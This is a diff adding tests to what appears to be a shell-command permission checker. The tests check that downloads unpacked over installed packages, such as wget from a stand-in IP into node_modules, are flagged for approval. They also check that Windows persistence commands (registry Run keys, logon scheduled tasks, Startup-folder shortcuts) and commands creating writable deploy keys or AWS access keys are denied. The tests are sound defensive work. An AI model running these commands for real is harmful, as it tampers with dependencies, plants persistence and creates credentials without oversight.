@@ -381,6 +381,43 @@ test('CI files: switching the trigger to pull_request_target without showing the
   expectEdit(WF, 'on:\n  push:', 'on:\n  push:\n  pull_request:', 'allow');
 });
 
+test('third-party taps and downloads unpacked over installed packages ask', () => {
+  expectExec('brew tap someone/tools', 'ask', /no list of popular packages/);
+  expectExec('brew install someone/tools/helper', 'ask');
+  expectExec(
+    'wget -qO- http://198.51.100.3/express.tgz | tar -xzf - -C node_modules/express',
+    'ask',
+    /unpacks a download/,
+  );
+  expectExec(
+    'curl -sL https://files.pkg-drop.example/six.zip -o /tmp/s.zip && unzip -o /tmp/s.zip -d .venv/lib/python3.12/site-packages',
+    'ask',
+  );
+  expectPasses('brew tap hashicorp/tap && brew install hashicorp/tap/terraform');
+  expectPasses('brew install jq ripgrep');
+  expectPasses('curl -sL https://github.com/acme/tool/releases/download/v1.2.0/tool.tgz | tar xz -C vendor/tool');
+  expectPasses('tar xzf release.tgz -C /tmp/release');
+});
+
+test('persistence on Windows and macOS, and standing keys on accounts, are denied like crontab', () => {
+  for (const c of [
+    'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v upd /d C:\\ProgramData\\u.exe /f',
+    'schtasks /create /sc onlogon /tn Updater /tr C:\\Users\\Public\\u.exe',
+    'pwsh -c "New-ItemProperty -Path \'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\' -Name x -Value y"',
+    'copy u.lnk "C:\\Users\\dev\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk"',
+    'gh repo deploy-key add key.pub --allow-write -R acme/web',
+    'aws iam create-access-key --user-name ci-bot',
+  ])
+    expectExec(c, 'deny');
+  for (const c of [
+    'schtasks /query /fo LIST',
+    'gh ssh-key list',
+    'reg query HKCU\\Environment',
+    'aws iam list-access-keys',
+  ])
+    expectPasses(c);
+});
+
 test('the findings are dependency calls naming what they read', () => {
   const effects = deriveFromCommand('npm install crossenv');
   assert.deepEqual(
